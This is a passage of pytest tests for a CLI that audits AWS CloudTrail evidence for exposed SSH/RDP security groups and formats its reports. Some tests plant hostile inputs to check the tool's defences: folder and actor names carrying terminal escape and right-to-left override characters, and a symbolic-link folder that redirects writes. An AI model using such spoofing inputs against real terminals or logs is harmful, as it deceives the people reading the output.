                            (None, "legacy-db", "0.0.0.0/0", "3306", "internet")], key=str)
    header = run("ssh-exposure", "--evidence", str(path)).stdout.splitlines()[0].split()
    assert {"reach", "ambiguous_order"} <= set(header)


@pytest.mark.parametrize("bound, value", [
    ("--since", "0999-01-01"), ("--until", "9999-12-31"),
    ("--since", "0001-01-01T00:00:00+05:00"), ("--until", "9999-12-31T23:00:00-05:00")])
def test_times_past_the_calendar_are_one_line_errors(tmp_path, bound, value):
    result = CliRunner().invoke(main, ["ssh-exposure", "--evidence", str(tmp_path), bound, value])
    assert (result.exit_code, result.output) == (  # a usage error: exit 2, under click's usage line
        2, usage("ssh-exposure") + f"Error: --since/--until must fall in the years 1970 to 9998, got {value!r}: leave "
           "--since or --until out for no bound\n")


def test_error_messages_show_control_characters_as_escapes(tmp_path):
    spoofed = tmp_path / "store\x1b[2J\u202e"
    spoofed.mkdir()
    (spoofed / "notes.txt").write_text("not a store")
    result = CliRunner().invoke(main, ["sg-changes", "--store", str(spoofed)])
    assert result.exit_code == 1 and "\x1b" not in result.output and "\u202e" not in result.output
    assert r"store\x1b[2J\u202e is not an evidence store" in result.output


def test_the_folders_ingest_and_report_name_on_stdout_show_control_characters_as_escapes(tmp_path):
    evidence = _hostile_change(tmp_path)
    for command in (["ingest", "--evidence", str(evidence), "--store", str(tmp_path / "st\x1b[2J\u202e")],
                    ["report", "--evidence", str(evidence), "--out", str(tmp_path / "out\x1b[2J\u202e")]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
        assert r"\x1b[2J\u202e" in result.stdout


def test_csv_keeps_exact_values_for_a_pipe_and_shows_escapes_on_a_terminal(capsys, monkeypatch):
    import sys

    import pandas as pd

    from audit_toolkit.cli import _emit

    from audit_toolkit.settings import Settings

    frame = pd.DataFrame({"actor": ["mallory\x1b[2J\u202e"]})
    _emit(frame, "csv", [], Settings())
    assert capsys.readouterr().out == "actor\r\nmallory\x1b[2J\u202e\r\n"
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    _emit(frame, "csv", [], Settings())
    assert capsys.readouterr().out == "actor\r\nmallory\\x1b[2J\\u202e\r\n"


def test_an_empty_error_code_is_no_error_and_hides_no_opening(tmp_path):
    """Found by the attack review: `"errorCode": ""` read as a failed call hid the window."""
    opening = cloudtrail_record("AuthorizeSecurityGroupIngress", '"fromPort": 22')
    (tmp_path / "a.json").write_text(json.dumps({"Records": [{**opening, "errorCode": ""}]}))
    result = run("ssh-exposure", "--evidence", str(tmp_path), "--format", "json", "--fail-on-open")
    [window] = json.loads(result.stdout)
    assert (window["group_id"], window["opened_event_id"]) == (opening["requestParameters"]["groupId"],
                                                                 opening["eventID"])
    assert result.exit_code == 3  # still open at the end of this evidence


def test_a_report_never_writes_among_the_evidence_nor_through_a_linked_charts_folder(tmp_path):
    """Found by the attack review: --out above evidence kept in out/charts overwrote it; a charts
    folder that is a symbolic link sent the charts outside --out."""
    case = tmp_path / "case"
    (case / "charts").mkdir(parents=True)
    (case / "charts" / "a.json").write_text(json.dumps({"Records": [cloudtrail_record("CreateSecurityGroup")]}))
    (case / "charts" / "changes.png").write_bytes(b"evidence")
    result = run("report", "--evidence", str(case / "charts"), "--out", str(case))
    assert result.exit_code == 1 and "the report's charts folder" in result.output
    assert (case / "charts" / "changes.png").read_bytes() == b"evidence"
    victim, out = tmp_path / "victim", tmp_path / "out"
    victim.mkdir()
    out.mkdir()
    (out / "charts").symlink_to(victim)
    linked = run("report", "--evidence", str(case / "charts" / "a.json"), "--out", str(out))
    assert linked.exit_code == 1 and "is a symbolic link" in linked.output
    assert list(victim.iterdir()) == []


def test_detect_shows_a_target_that_is_an_object_as_json_escaped(tmp_path):
    from util import event, records_file

    session = event(1, eventSource="ssm.amazonaws.com", eventName="StartSession", readOnly=False,
                    requestParameters={"target": {"x": [1, 2], "y": "\u202e\x1b"}})
    path = records_file(tmp_path, "session.json", [session], zipped=False)

    found = json.loads(run("detect", "--evidence", str(path), "--format", "json").stdout)
    table = run("detect", "--evidence", str(path)).stdout

    assert [(h["detection"], h["target"]) for h in found] == [
        ("ssm_session_started", '{"x":[1,2],"y":"\u202e\\u001b"}')]  # JSON escapes ESC
    assert '{"x":[1,2],"y":"\\u202e\\u001b"}' in table and "{'x'" not in table
    assert not any(c in table for c in "\u202e\x1b")


def test_the_line_before_the_unusable_events_agrees_with_its_count(capsys):
    from audit_toolkit.cli import _report_unusable
    from audit_toolkit.evidence.reader import IntakeReport

    _report_unusable(IntakeReport(unusable=["event e1 (AuthorizeSecurityGroupIngress at T): fromPort 'inf' is not a port"]))
    assert capsys.readouterr().err.splitlines()[0] == (
        "1 security-group call could not be read and may hide a window:")


NARROW_COMMANDS = [  # each command's table, and the column holding its identities, if any
    (["sg-changes"], "actor"), (["ssh-exposure"], "opened_by"), (["activity", "--principal", "mallory"], "actor"),
    (["detect"], "actor"), (["coverage"], "actor"), (["findings"], None), (["reconcile"], None),
    (["connections"], None), (["correlate"], None), (["detect", "--catalogue"], None)]


@pytest.mark.parametrize("args, identity", NARROW_COMMANDS, ids=lambda v: " ".join(v) if isinstance(v, list) else v)
def test_every_table_fits_60_columns_and_keeps_identities_whole(demo, args, identity):
    evidence = str(demo / "evidence")
    read = [] if "--catalogue" in args else ["--evidence", evidence]  # the catalogue reads no evidence
    narrow = CliRunner().invoke(main, [*args, *read], env={"COLUMNS": "60"})
    assert narrow.exit_code == 0, narrow.output
    lines = narrow.stdout.splitlines()
    assert max(map(len, lines)) <= 60
    if identity is None:
        return
    rows = json.loads(run(*args, "--evidence", evidence, "--format", "json").stdout)
    expected = {actors.short(r[identity]) for r in rows if r[identity]}
    assert "ops-admin / mallory" in expected or args[0] == "coverage"
    header = next(line for line in lines if line.startswith(("event_time", "group_id", "kind")))
    start = header.index(identity)  # the column's text, line after line: a wrapped identity joined again
    column = "".join(line[start:].split("  ")[0].replace(" ", "") for line in lines[1:])
    assert all(name.replace(" ", "") in column for name in expected)


# a column with one value in every row goes first (ambiguous_order, reach): an id is never split instead
SG_LEFT_OUT = ["direction", "tool", "region", "account", "source_ip", "error_code", "protocol"]
WINDOW_LEFT_OUT = ["ambiguous_order", "reach", "open_before_evidence", "region", "account", "group_name", "protocol",
                   "opened_how", "close_reason", "closed_by"]
FINDING_LEFT_OUT = ["sample", "count", "region", "account", "severity_label", "security_group_ids", "remote_country",
                    "local_port"]
CONNECTION_LEFT_OUT = ["interfaces", "before_rejected", "after_rejected", "after_accepted", "bytes_out", "bytes_in",
                       "rejected", "accepted", "finding_ids", "gap", "last_seen"]
TABLES_AT = [  # each command at 80 and 100 columns: the columns it keeps, and those it names as left out
    (["sg-changes"], 80, ["event_time", "group_id", "action", "ports", "actor"], [*SG_LEFT_OUT, "peer"]),
    (["sg-changes"], 100, ["event_time", "group_id", "action", "ports", "peer", "actor"], SG_LEFT_OUT),
    (["ssh-exposure"], 80, ["group_id", "ports", "opened_at", "opened_by", "still_open"],  # cidr before ports
     [*WINDOW_LEFT_OUT, "closed_at", "cidr"]),
    (["ssh-exposure"], 100, ["group_id", "ports", "cidr", "opened_at", "opened_by", "closed_at", "still_open"],
     WINDOW_LEFT_OUT),
    # the actor is the one asked for: what each call acted on is kept longest
    (["activity", "--principal", "mallory"], 80, ["event_time", "event_name", "target", "actor"],
     ["tool", "source_ip", "region", "account", "event_source", "error_code"]),
    (["activity", "--principal", "mallory"], 100, ["event_time", "event_name", "target", "error_code", "actor"],
     ["tool", "source_ip", "region", "account", "event_source"]),
    # an attempt and its success differ only in outcome: kept longest
    (["detect"], 80, ["event_time", "severity", "detection", "outcome", "actor"],
     ["error_code", "region", "account", "event_name", "source_ip", "detail", "target"]),
    (["detect"], 100, ["event_time", "severity", "detection", "outcome", "target", "actor"],
     ["error_code", "region", "account", "event_name", "source_ip", "detail"]),
    (["findings"], 80, ["severity", "type", "instance_id", "remote_ip", "first_seen"], [*FINDING_LEFT_OUT, "last_seen"]),
    (["findings"], 100, ["severity", "type", "instance_id", "remote_ip", "first_seen", "last_seen"], FINDING_LEFT_OUT),
    (["correlate"], 80, ["group_id", "opened_at", "finding_type", "remote_ip"],
     ["severity", "count", "closed_at", "instance_id", "local_port", "last_seen", "first_seen"]),
    (["correlate"], 100, ["group_id", "opened_at", "finding_type", "remote_ip", "first_seen", "last_seen"],
     ["severity", "count", "closed_at", "instance_id", "local_port"]),
    (["connections"], 80, ["group_id", "opened_at", "kind", "source", "verdict", "known_as"],
     [*CONNECTION_LEFT_OUT, "first_seen", "closed_at"]),
    (["connections"], 100, ["group_id", "opened_at", "closed_at", "kind", "source", "verdict", "known_as"],
     [*CONNECTION_LEFT_OUT, "first_seen"]),
    (["reconcile"], 80, ["kind", "group_id", "rule", "after", "before"], ["region", "account", "coverage", "group_name"]),
    (["reconcile"], 100, ["kind", "group_id", "group_name", "rule", "after", "before", "coverage"],
     ["region", "account"]),
]


def test_a_refused_call_never_reads_as_done_when_its_error_code_is_left_out(demo):
    result = CliRunner().invoke(main, ["sg-changes", "--evidence", str(demo / "evidence"), "--since",
                                       "2026-11-03T09:20Z", "--until", "2026-11-03T09:21Z"], env={"COLUMNS": "80"})
    assert "error_code" in " ".join(result.stderr.split()).partition("left out to fit the terminal:")[2]
    assert result.stdout.splitlines() == [
        "event_time  group_id              action         ports  peer       actor",
        "2026-11-03  sg-0d000000000000004  authorize      22     0.0.0.0/0  ops-admin /",
        "09:20:00                          (refused)                        mallory"]
    data = json.loads(run("sg-changes", "--evidence", str(demo / "evidence"), "--since", "2026-11-03T09:20Z",
                          "--until", "2026-11-03T09:21Z", "--format", "json").stdout)
    assert [(r["action"], r["error_code"]) for r in data] == [("authorize", "Client.UnauthorizedOperation")]


@pytest.mark.parametrize("args, width, kept, left_out", TABLES_AT, ids=[f"{a[0]}@{w}" for a, w, *_ in TABLES_AT])
def test_each_table_keeps_the_columns_that_answer_its_question_at_80_and_100_columns(demo, args, width, kept, left_out):
    """Ids, times and identities wrap before a column is left out; what is left out goes first."""
    result = CliRunner().invoke(main, [*args, "--evidence", str(demo / "evidence")], env={"COLUMNS": str(width)})
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert max(map(len, lines)) <= width
    header = next(line for line in lines if line.startswith(kept[0] + " "))  # after correlate's sentences
    assert header.split() == kept
    said = " ".join(result.stderr.split())  # the stderr lines wrap to the terminal too
    assert f"left out to fit the terminal: {', '.join(left_out)} (widen it," in said


def test_the_lines_on_stderr_wrap_to_the_width_of_the_table(demo):
    evidence = str(demo / "evidence")
    result = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"COLUMNS": "80"})
    lines = result.stderr.splitlines()
    assert max(map(len, lines)) <= 80
    assert lines[lines.index("times in UTC") + 1:] == [
        "left out to fit the terminal: ambiguous_order, reach, open_before_evidence,",
        "  region, account, group_name, protocol, opened_how, close_reason, closed_by,",
        "  closed_at, cidr (widen it, or use --format csv or json for every column)",
        "11 windows, 2 still open",
    ]
    assert lines[0].startswith(f"evidence {evidence}: ") and lines[1].startswith("  ")  # the intake, wrapped

    def joined(text: str) -> str:  # a path too long for a line breaks after a '/', with no space
        return "".join(s if s.endswith("/") else s + " " for s in map(str.strip, text.splitlines()))

    assert f"{evidence}/ec2/describe-security-groups.json: read 0," in joined(result.stderr)
    wide = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"COLUMNS": "400"})
    assert joined(wide.stderr) == joined(result.stderr).replace(
        "left out to fit the terminal: ambiguous_order, reach, open_before_evidence, region, account, group_name, "
        "protocol, opened_how, close_reason, closed_by, closed_at, cidr (widen it, or use --format csv or json for "
        "every column) ", "")  # only wrapped: the same words


def _run_with_stderr_on(tty: bool, evidence) -> tuple[str, str]:
    """The CLI run as a shell would, stderr on a pseudo-terminal of 80 columns (or a pipe); its stdout
    and stderr."""
    import fcntl
    import os
    import pty
    import struct
    import subprocess
    import sys
    import termios

    command = [sys.executable, "-c", "from audit_toolkit.cli import main; main()", "activity", "--principal", "u1",
               "--evidence", str(evidence), "--format", "csv"]
    env = {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    if not tty:
        done = subprocess.run(command, capture_output=True, text=True, env=env, timeout=300)
        return done.stdout, done.stderr
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=follower, env=env) as process:
        os.close(follower)
        said = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # EIO: the process closed the terminal
                break
            if not chunk:
                break
            said += chunk
        out = process.stdout.read().decode()
        process.wait(timeout=300)
    os.close(leader)
    return out, said.decode()


def test_a_raw_evidence_scan_draws_a_progress_bar_only_when_stderr_is_a_terminal(tmp_path):
    from util import event, records_file

    evidence = tmp_path / "evidence"
    for n in range(3):
        records_file(evidence, f"part{n}.json.gz", [event(n), event(n + 3)])
    out, said = _run_with_stderr_on(True, evidence)
    assert out.splitlines()[0].startswith("event_time,")  # stdout, a pipe, holds the answer alone
    assert "ingest: 100%" in said and "3/3" in said and "events=6" in said
    assert "\x1b[" not in out
    shown = [line.split("\r")[-1] for line in said.split("\r\n")]  # what the terminal shows, line by line
    assert max(map(len, shown)) <= 80  # the intake line too, wrapped to the terminal stderr is on
    assert f"evidence {evidence}: 3 files, 6 events read, 6 used" in " ".join(" ".join(shown).split())
    out, said = _run_with_stderr_on(False, evidence)
    assert "ingest" not in said and "%" not in said
    assert said.splitlines()[0].startswith(f"evidence {evidence}: 3 files, 6 events read, 6 used")


@pytest.mark.parametrize("columns", ["0", "-1", "wide"])
def test_a_columns_of_zero_or_no_number_is_unset_and_a_pipe_gets_the_whole_table(tmp_path, columns):
    from util import event, records_file

    records_file(tmp_path / "evidence", "a.json.gz", [event(1, userAgent="aws-cli/2 " + "x" * 150)])
    args = ["activity", "--principal", "u1", "--evidence", str(tmp_path / "evidence")]
    given = CliRunner().invoke(main, args, env={"COLUMNS": columns})
    unset = CliRunner().invoke(main, args, env={"COLUMNS": None})
    assert given.exit_code == unset.exit_code == 0
    assert given.stdout == unset.stdout  # not squeezed to 0 columns: every column, each on one line
    assert given.stdout.splitlines()[0].split() == [
        "event_time", "account", "region", "event_source", "event_name", "target", "error_code", "source_ip", "actor",
        "tool"]
    assert len(given.stdout.splitlines()) == 2 and "left out" not in given.stderr


@pytest.mark.parametrize("query, param, expected", [
    ("findings", "min_severity=abc", "min_severity='abc': expected double (a number)"),
    ("findings", "min_severity=nan", "min_severity='nan': expected double (a number)"),
    ("connections", "from_port=22.5", "from_port='22.5': expected integer (a whole number)"),
])
def test_sql_checks_a_param_against_its_declared_type_before_printing(query, param, expected):
    result = CliRunner().invoke(main, ["sql", query, "--param", param])
    assert result.exit_code == 2 and result.stdout == ""  # no query printed, as any other option error
    assert result.stderr.splitlines()[-1] == f"Error: Invalid value for --param: {expected}"


def test_sql_binds_a_number_for_a_double_and_text_for_text_however_it_looks():
    severe = run("sql", "findings", "--param", "min_severity=7")
    assert severe.exit_code == 0 and "AND (7.0 IS NULL OR try_cast(severity AS DOUBLE) >= 7.0)" in severe.stdout
    named = run("sql", "principal_events", "--param", "principal=123")  # a user named 123 is text
    assert named.exit_code == 0 and "useridentity.arn = '123'" in named.stdout


def test_a_query_header_declares_a_parameter_type_or_none(tmp_path):
    from audit_toolkit import queries

    assert dict(queries.get("findings").types) == {"min_severity": "double"}
    assert queries.get("findings").typed("min_severity", " 4.5") == 4.5
    bad = tmp_path / "odd.sql"
    bad.write_text("-- name: odd\n-- params: n number\nSELECT :n\n", encoding="utf-8")
    with pytest.raises(AuditToolkitError, match="declared as 'name' or 'name TYPE'"):
        queries.load(bad)


def test_activity_names_what_each_call_acted_on_in_a_target_column(tmp_path):
    from util import event, records_file

    trail = "arn:aws:cloudtrail:us-east-1:111111111111:trail/org-trail"
    alice = {"type": "IAMUser", "arn": "arn:aws:iam::111111111111:user/alice", "accountId": "111111111111"}
    records_file(tmp_path / "evidence", "a.json.gz", [event(n, userIdentity=alice, eventName=name, requestParameters=req)
                                                       for n, (name, req) in enumerate([
        ("AuthorizeSecurityGroupIngress", {"groupId": "sg-0b000000000000002"}),
        ("StopLogging", {"name": trail}),
        ("PutBucketPolicy", {"bucketName": "logs"}),
        ("ModifySecurityGroupRules", {"ModifySecurityGroupRulesRequest": {"GroupId": "sg-0e000000000000005"}}),
        ("DescribeInstances", {"groupId": {"not": "a name"}}),  # an object is no name
    ])])
    args = ["activity", "--principal", "alice", "--evidence", str(tmp_path / "evidence")]
    table = CliRunner().invoke(main, args, env={"COLUMNS": None})
    assert table.exit_code == 0
    assert [line.split()[:7] for line in table.stdout.splitlines()] == [
        ["event_time", "account", "region", "event_source", "event_name", "target", "error_code"],
        ["2026-01-01", "00:00:00", "111111111111", "us-east-1", "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress",
         "sg-0b000000000000002"],
        ["2026-01-01", "00:00:01", "111111111111", "us-east-1", "ec2.amazonaws.com", "StopLogging", trail],
        ["2026-01-01", "00:00:02", "111111111111", "us-east-1", "ec2.amazonaws.com", "PutBucketPolicy", "logs"],
        ["2026-01-01", "00:00:03", "111111111111", "us-east-1", "ec2.amazonaws.com", "ModifySecurityGroupRules",
         "sg-0e000000000000005"],
        ["2026-01-01", "00:00:04", "111111111111", "us-east-1", "ec2.amazonaws.com", "DescribeInstances",
         "192.0.2.1"],  # no target: the source address comes next
    ]
    targets = ["sg-0b000000000000002", trail, "logs", "sg-0e000000000000005", None]
    as_json = json.loads(CliRunner().invoke(main, [*args, "--format", "json"]).stdout)
    assert [(r["event_name"], r["target"]) for r in as_json] == list(zip(
        ["AuthorizeSecurityGroupIngress", "StopLogging", "PutBucketPolicy", "ModifySecurityGroupRules",
         "DescribeInstances"], targets))
    rows = list(csv.DictReader(io.StringIO(CliRunner().invoke(main, [*args, "--format", "csv"]).stdout)))
    assert [r["target"] for r in rows] == [t or "" for t in targets]
    assert list(rows[0]).index("target") == list(rows[0]).index("event_name") + 1


@pytest.mark.parametrize("args, env, code, message", [
    (["connections", "--group", "web-sg"], {}, 2,
     "Error: Invalid value for --group: 'web-sg' is no security group id (sg- and its id, such as "
     "sg-0123456789abcdef0)"),
    (["activity", "--principal", " "], {}, 2, "Error: Invalid value for --principal: an empty value names no principal"),
    (["notify", "--room", "ops-room"], {"CHATWORK_API_TOKEN": "t"}, 2,
     "Error: Invalid value for --room: a room id is a number, got 'ops-room'"),
    (["notify", "--dry-run", "--room", "ops-room"], {}, 2,
     "Error: Invalid value for --room: a room id is a number, got 'ops-room'"),
])
def test_each_option_is_refused_before_the_scan_not_after(demo, args, env, code, message):
    result = CliRunner().invoke(main, [*args, "--evidence", str(demo / "evidence")], env=env)
    assert result.exit_code == code and result.stderr.splitlines()[-1] == message
    assert "events read" not in result.output  # nothing was scanned


def test_an_outbox_that_cannot_be_opened_fails_before_the_scan(demo, tmp_path):
    (tmp_path / "file").write_text("", encoding="utf-8")
    result = CliRunner().invoke(main, ["notify", "--room", "1", "--outbox", str(tmp_path / "file" / "box.sqlite"),
                                       "--evidence", str(demo / "evidence")], env={"CHATWORK_API_TOKEN": "t"})
    assert result.exit_code == 1 and result.output == f"Error: {tmp_path / 'file'}: File exists\n"


def test_the_port_is_left_out_last_and_a_detections_outcome_never(tmp_path, demo):
    """A long role name at 80 columns took `ports` before `cidr`: an RDP window read as an SSH one.
    At 60, `detect` left out `outcome`: a refused opening read as done."""
    role = "arn:aws:sts::111111111111:assumed-role/very-long-role-name-for-break-glass-incident-responders/mallory"
    records = [{"eventVersion": "1.08", "eventID": f"e{port}", "eventTime": f"2026-03-09T10:0{i}:00Z",
                "eventSource": "ec2.amazonaws.com", "eventName": "AuthorizeSecurityGroupIngress",
                "awsRegion": "us-east-1", "recipientAccountId": "111111111111", "sourceIPAddress": "198.51.100.9",
                "userIdentity": {"type": "AssumedRole", "arn": role, "accountId": "111111111111"},
                "requestParameters": {"groupId": f"sg-0{port:016d}", "ipPermissions": {"items": [
                    {"ipProtocol": "tcp", "fromPort": port, "toPort": port,
                     "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}},
                "responseElements": {"_return": True}} for i, port in enumerate((22, 3389))]
    (tmp_path / "trail.json").write_text(json.dumps({"Records": records}))
    for width in range(80, 101, 4):  # below 80, whole group ids leave no room for ports (said left out)
        result = CliRunner().invoke(main, ["ssh-exposure", "--evidence", str(tmp_path / "trail.json"), "--port", "22",
                                           "--port", "3389"], env={"COLUMNS": str(width)})
        header = result.stdout.splitlines()[0].split()
        assert header[:2] == ["group_id", "ports"] and "still_open" in header, width
        assert [line.split()[1] for line in result.stdout.splitlines() if line.startswith("sg-0")] == ["22", "3389"]
    detect = CliRunner().invoke(main, ["detect", "--evidence", str(demo / "evidence")], env={"COLUMNS": "60"})
    assert detect.stdout.splitlines()[0].split() == ["event_time", "severity", "detection", "outcome", "actor"]
    assert " attempt " in detect.stdout


PORTS_AND_STATE_AT = [  # width: the header of ssh-exposure's table; a port range and the open state kept at each
    (60, ["group_id", "opened_at", "opened_by", "still_open"]),  # whole ids leave no room for ports: said left out
    (80, ["group_id", "ports", "opened_at", "opened_by", "still_open"]),
    (130, ["group_id", "ports", "cidr", "opened_at", "opened_by", "closed_at", "closed_by", "close_reason",
           "still_open"]),
]


@pytest.mark.parametrize("width, header", PORTS_AND_STATE_AT)
def test_a_port_range_is_one_cell_and_the_open_state_is_never_left_out(demo, width, header):
    """20-25 never reads as port 20 (FTP); which windows are open is told at every width; a window
    opened by no logged call says so in opened_by, not with an empty cell."""
    evidence = str(demo / "evidence")
    result = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"COLUMNS": str(width)})
    lines = result.stdout.splitlines()
    assert lines[0].split() == header
    assert max(map(len, lines)) <= width
    assert "from_port" not in result.stderr and "to_port" not in result.stderr
    assert "still_open" not in " ".join(result.stderr.split()).partition("left out")[2]
    if "ports" in header:
        assert " 20-25 " in result.stdout
    at, end = (lines[0].index(c) for c in header[header.index("opened_by"):][:2])  # its column, wrapped
    assert "(before evidence)" in " ".join(line[at:end].strip() for line in lines[1:])
    sg = CliRunner().invoke(main, ["sg-changes", "--evidence", evidence, "--since", "2026-11-03T09:05:00Z",
                                   "--until", "2026-11-03T09:06:00Z"], env={"COLUMNS": str(width)})
    if "ports" in sg.stdout.splitlines()[0].split():  # at 60 columns whole ids leave no room: said left out
        assert " 20-25 " in sg.stdout
    else:
        assert "ports" in " ".join(sg.stderr.split()).partition("left out")[2] and width < 80


def test_a_window_closed_by_no_logged_call_says_so_in_closed_by(demo):
    # the closer is empty in JSON and CSV; an empty cell beside a close time would read as missing data
    evidence = str(demo / "evidence")
    table = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"COLUMNS": "400"}).stdout
    header, *rows = table.splitlines()
    at = header.index("closed_by")
    closers = {row.split()[2]: row[at:].split("  ")[0] for row in rows}
    assert {g: closers[g] for g in ("sg-02b0000000000000b", "sg-03c0000000000000c", "sg-04d0000000000000d",
                                    "sg-0a000000000000001", "sg-01a0000000000000a")} == {
        "sg-02b0000000000000b": "(not logged)", "sg-03c0000000000000c": "(not logged)",
        "sg-04d0000000000000d": "(group deleted, not logged)", "sg-0a000000000000001": "bob",
        "sg-01a0000000000000a": ""}  # still open: no closer, and nothing said
    whole = json.loads(run("ssh-exposure", "--evidence", evidence, "--format", "json").stdout)
    assert {w["group_id"]: w["closed_by"] for w in whole}["sg-02b0000000000000b"] is None


def _sg_call(name: str, at: str, group: str, number: int) -> dict:
    return {"eventVersion": "1.08", "eventTime": at, "eventName": name, "eventSource": "ec2.amazonaws.com",
            "awsRegion": "us-east-1", "recipientAccountId": "444444444444", "eventID": f"dst-{number}",
            "eventType": "AwsApiCall", "sourceIPAddress": "198.51.100.77", "userAgent": "aws-cli/2.15.0",
            "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::444444444444:user/ana",
                             "accountId": "444444444444", "userName": "ana"},
            "requestParameters": {"groupId": group, "ipPermissions": {"items": [
                {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22,
                 "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}},
            "responseElements": {"_return": True}}


def test_a_table_across_a_dst_change_shows_each_times_offset(tmp_path):
    # one hour open, 05:30Z to 06:30Z: in New York both read 01:30 (EDT, then EST)
    path = tmp_path / "trail.json"
    path.write_text(json.dumps({"Records": [
        _sg_call("AuthorizeSecurityGroupIngress", "2026-11-01T05:30:00Z", "sg-0dst00000000000b2", 1),
        _sg_call("RevokeSecurityGroupIngress", "2026-11-01T06:30:00Z", "sg-0dst00000000000b2", 2)]}))
    wide = {"COLUMNS": "300"}
    shown = {command: CliRunner().invoke(main, [command, *args, "--evidence", str(path), "--tz", "America/New_York"],
                                         env=wide).stdout
             for command, args in (("ssh-exposure", []), ("sg-changes", []), ("activity", ["--principal", "ana"]))}
    [window] = shown["ssh-exposure"].splitlines()[1:]
    assert "2026-11-01 01:30:00-04:00  ana" in window and "2026-11-01 01:30:00-05:00  ana" in window
    for command in ("sg-changes", "activity"):
        assert [line[:25] for line in shown[command].splitlines()[1:]] == [
            "2026-11-01 01:30:00-04:00", "2026-11-01 01:30:00-05:00"]
    # one offset in the table (UTC, or a zone with no change between its rows): the times as before
    tokyo = CliRunner().invoke(main, ["sg-changes", "--evidence", str(path), "--tz", "Asia/Tokyo"], env=wide)
    assert [line[:20] for line in tokyo.stdout.splitlines()[1:]] == ["2026-11-01 14:30:00 ", "2026-11-01 15:30:00 "]


REPEATED = [  # a single-valued option given twice: refused before anything is read (click kept the last)
    (["activity", "--principal", "mallory", "--principal", "alice"], "--principal given 2 times"),
    (["sg-changes", "--tz", "UTC", "--tz=Asia/Tokyo"], "--tz given 2 times"),
    (["findings", "--format", "csv", "--format", "json"], "--format given 2 times"),
    (["ssh-exposure", "--since", "2026-11-01", "--since", "2026-11-02"], "--since given 2 times"),
    (["connections", "--session-bytes", "1", "--session-bytes", "2"], "--session-bytes given 2 times"),
]


@pytest.mark.parametrize("args, message", REPEATED, ids=lambda v: v[0] if isinstance(v, list) else None)
def test_a_single_valued_option_given_twice_is_refused(tmp_path, args, message):
    result = run(*args, "--evidence", str(tmp_path))
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == f"Error: {message}: it takes one value"


def test_a_value_spelt_like_an_option_is_a_value_not_a_repeat(tmp_path):
    # `--principal --tz` names a principal called "--tz": the --tz after it is given once
    result = run("activity", "--principal", "--tz", "--tz", "UTC", "--evidence", str(tmp_path))
    assert "given 2 times" not in result.output
    assert run("activity", "--principal", "--tz", "--tz", "UTC", "--tz", "JST",
               "--evidence", str(tmp_path)).output.splitlines()[-1] == "Error: --tz given 2 times: it takes one value"


def test_every_single_valued_option_of_every_command_is_checked():
    for path in _commands(main):
        command = main
        for name in path:
            command = command.commands[name]
        if not isinstance(command, click.Group):
            assert type(command).__name__ == "OnceCommand", path


@pytest.mark.parametrize("option", [["--since", "2026-01-01"], ["--account", "111111111111"], ["--tz", "JST"],
                                    ["--region", "us-east-1"], ["--state-at", "2026-01-01"]])
def test_the_catalogue_refuses_options_that_mean_nothing_to_it(tmp_path, option):
    result = run("detect", "--catalogue", *option)
    assert result.exit_code == 2 and result.output.splitlines()[-1] == (
        f"Error: {option[0]} has no meaning with --catalogue")
    assert "times without a zone" not in result.output
    assert run("detect", "--catalogue", "--min-severity", "critical", "--format", "csv").exit_code == 0


def test_a_misspelt_query_or_detection_names_the_nearest_not_every_name(tmp_path):
    result = run("sql", "sg_chnges")
    assert result.exit_code == 1 and result.output == (
        "Error: no query named 'sg_chnges'; nearest: sg_changes, instance_changes "
        "(`audit-toolkit sql` lists them all)\n")
    result = run("detect", "--only", "ssh_exposure_opned", "--evidence", str(tmp_path))
    assert result.exit_code == 2 and result.output == usage("detect") + (
        "Error: unknown detection ssh_exposure_opned; nearest: ssh_exposure_opened "
        "(`audit-toolkit detect --catalogue` lists them all)\n")


def test_sql_checks_its_account_and_region_as_every_command_does():
    result = run("sql", "events", "--account", "abc")
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == "Error: Invalid value for --account: 'abc' is no AWS account id (12 digits)"
    assert run("sql", "events", "--region", "Tokyo").exit_code == 2
    assert run("sql", "events", "--account", "111111111111").exit_code == 0


@pytest.mark.parametrize("command", ["findings", "correlate"])
def test_a_type_that_matches_nothing_names_the_nearest_and_case_is_no_difference(demo, command):
    evidence = str(demo / "evidence")
    wrong_case = run(command, "--evidence", evidence, "--type", "UnauthorizedAccess:EC2/SSHBruteforce",
                     "--format", "json")
    assert {f.get("type", f.get("finding_type")) for f in json.loads(wrong_case.stdout)} == {
        "UnauthorizedAccess:EC2/SSHBruteForce"}
    typo = run(command, "--evidence", evidence, "--type", "UnauthorizedAccess:EC2/SSHBruteFarce")
    held = len(json.loads(run("findings", "--evidence", evidence, "--format", "json").stdout))
    assert typo.stdout == (f"(none: no finding of type 'UnauthorizedAccess:EC2/SSHBruteFarce' among the {held} "
                           "findings in the scope; nearest: UnauthorizedAccess:EC2/RDPBruteForce, "
                           "UnauthorizedAccess:EC2/SSHBruteForce)\n")


def test_a_range_the_evidence_does_not_reach_is_said_and_cannot_prove_nothing_open(demo):
    evidence = str(demo / "evidence")
    far = ["--since", "2027-06-01", "--until", "2027-06-02"]
    said = ("the evidence covers 2026-11-02 00:00 to 2026-11-04 23:59 (UTC); the range asked, 2027-06-01 00:00 to "
            "2027-06-02 00:00, lies outside it: an empty answer says nothing about that range")
    for command in (["sg-changes"], ["detect"], ["findings"], ["correlate"], ["ssh-exposure"]):
